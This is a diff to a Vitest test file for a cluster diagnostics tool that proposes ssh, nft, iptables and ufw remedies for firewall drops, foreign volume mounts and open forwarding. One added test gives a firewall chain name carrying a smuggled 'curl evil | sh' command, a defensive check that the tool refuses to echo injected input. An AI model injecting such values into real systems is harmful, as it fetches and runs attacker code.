@@ -1,8 +1,9 @@
 import { describe, expect, it } from 'vitest';
+import type { ForeignMount } from '../../../src/model/cluster.ts';
 import type { ConnectAnswer, Examination, FirewallDrop, SystemReading } from '../../../src/model/examination.ts';
 import { judge } from '../../../src/view/doctor.ts';
 import type { Examined, Finding } from '../../../src/view/doctor-finding.ts';
-import { aCluster, aConfig, aContainer, anApplication, onNode, tcp, unreachable } from '../../builders.ts';
+import { aCluster, aConfig, aContainer, anApplication, aVolume, onNode, tcp, unreachable } from '../../builders.ts';
 
 const [n1, n2] = ['10.0.0.1', '10.0.0.2'] as const;
 const web = anApplication('web', { ports: [tcp(8000)] });
@@ -169,6 +170,22 @@ describe('doctor judges', () => {
     });
   });
 
+  it('a volume that another program keeps mounted', () => {
+    const user = { dataset: dataset.name, container: 'backup', pid: 12, process: 'sleep' };
+    const volume = aVolume('v1', { on: n2, application: 'web', dataset: dataset.name });
+    const state = (foreignMounts: readonly ForeignMount[]) =>
+      aCluster(onNode(n1, { containers: [aContainer(web, n1)] }), onNode(n2, { volumes: [volume], foreignMounts }));
+    expect(onlyFinding(examined({}, { state: state([user]) }))).toMatchObject({
+      node: n2,
+      check: 'mounts',
+      result: 'warning',
+      text: expect.stringMatching(/volume "web" cannot be moved: container "backup" keeps it mounted/),
+      command: `ssh ${n2} docker stop backup`,
+    });
+    const { container: _container, ...process } = user;
+    expect(onlyFinding(examined({}, { state: state([process]) })).command).toBe(`ssh ${n2} ps -fp 12`);
+  });
+
   it('what provision.sh would do, with the same script as the remedy', () => {
     const provision = [
       { state: 'done', step: 'packages' },
@@ -298,7 +315,7 @@ describe('doctor judges', () => {
       firewall: { ...wellSystem.firewall, ...changes },
     });
 
-    it('that a rule drops, with the rule and its removal', () => {
+    it('that a rule drops, with that rule and one that lets this port through before it', () => {
       expect(onlyFinding(cut(firewall({ drops: [drop] })))).toMatchObject({
         node: n2,
         check: 'connections',
@@ -306,15 +323,21 @@ describe('doctor judges', () => {
         text: expect.stringMatching(
           /port 8000 of "web".*10\.0\.0\.1, this machine: probably "counter drop".*inet foreign fwd/,
         ),
-        command: `ssh ${n2} nft delete rule inet foreign fwd handle 4`,
+        command: `ssh ${n2} nft insert rule inet foreign fwd ct status dnat ct reply ip saddr ${n1} ct original proto-dst 8000 meta l4proto tcp accept`,
       });
-      expect(onlyFinding(cut(firewall({ drops: [drop] }), 'refused')).command).toContain('handle 4');
+      expect(onlyFinding(cut(firewall({ drops: [drop] }), 'refused')).command).toContain('fwd ct status dnat');
+      const user: FirewallDrop = { ...drop, table: 'ip filter', chain: 'DOCKER-USER' };
+      expect(onlyFinding(cut(firewall({ drops: [user] }))).command).toBe(
+        `ssh ${n2} iptables -I DOCKER-USER -p tcp -m conntrack --ctstate DNAT --ctreplsrc ${n1} --ctorigdstport 8000 -j ACCEPT`,
+      );
+      const hostile: FirewallDrop = { ...drop, chain: 'x; curl evil | sh' };
+      expect(onlyFinding(cut(firewall({ drops: [hostile] }))).command).toBe(`ssh ${n2} nft list ruleset`);
     });
 
     it('prefer the rule that names the port', () => {
       const other = { ...drop, handle: 5, rule: 'tcp dport 22 drop' };
-      const named = { ...drop, handle: 6, rule: 'tcp dport { 80, 8000 } drop' };
-      expect(onlyFinding(cut(firewall({ drops: [other, drop, named] }))).command).toContain('handle 6');
+      const named = { ...drop, handle: 6, chain: 'named', rule: 'tcp dport { 80, 8000 } drop' };
+      expect(onlyFinding(cut(firewall({ drops: [other, drop, named] }))).command).toContain('foreign named');
       expect(onlyFinding(cut(firewall({ drops: [other] }))).command).toBe(`ssh ${n2} nft list ruleset`);
     });
 
@@ -323,11 +346,17 @@ describe('doctor judges', () => {
       expect(onlyFinding(cut(firewall({ services: ['ufw'], drops: [policy] }))).command).toBe(
         `ssh ${n2} ufw route allow proto tcp to ${n1} port 8000`,
       );
-      expect(onlyFinding(cut(firewall({ drops: [policy] }))).command).toContain('policy accept');
+      expect(onlyFinding(cut(firewall({ drops: [policy] }))).command).toContain('iptables -I DOCKER-USER -p tcp');
       const { accepted: _none, ...bare } = wellSystem.firewall;
       const firewalld = { ...drop, table: 'inet firewalld', rule: 'reject with icmpx admin-prohibited' };
       const it = cut({ firewall: { ...bare, services: ['firewalld'], drops: [firewalld] } });
-      expect(onlyFinding(it).command).toContain('firewall-cmd --add-forward');
+      expect(onlyFinding(it).command).toContain('nft insert rule inet firewalld fwd ct status dnat');
+    });
+
+    it('that a node forwards for everybody is a fault, which is closed', () => {
+      const [found] = wrong(examined({ system: { ...wellSystem, ...firewall({ open: ['IPv4', 'IPv6'] }) } }));
+      expect(found).toMatchObject({ check: 'forwarding', result: 'fault' });
+      expect(found?.command).toContain("'iptables -P FORWARD DROP && ip6tables -P FORWARD DROP'");
     });
 
     it('that Docker drops for want of its rule, and that the kernel does not forward', () => {
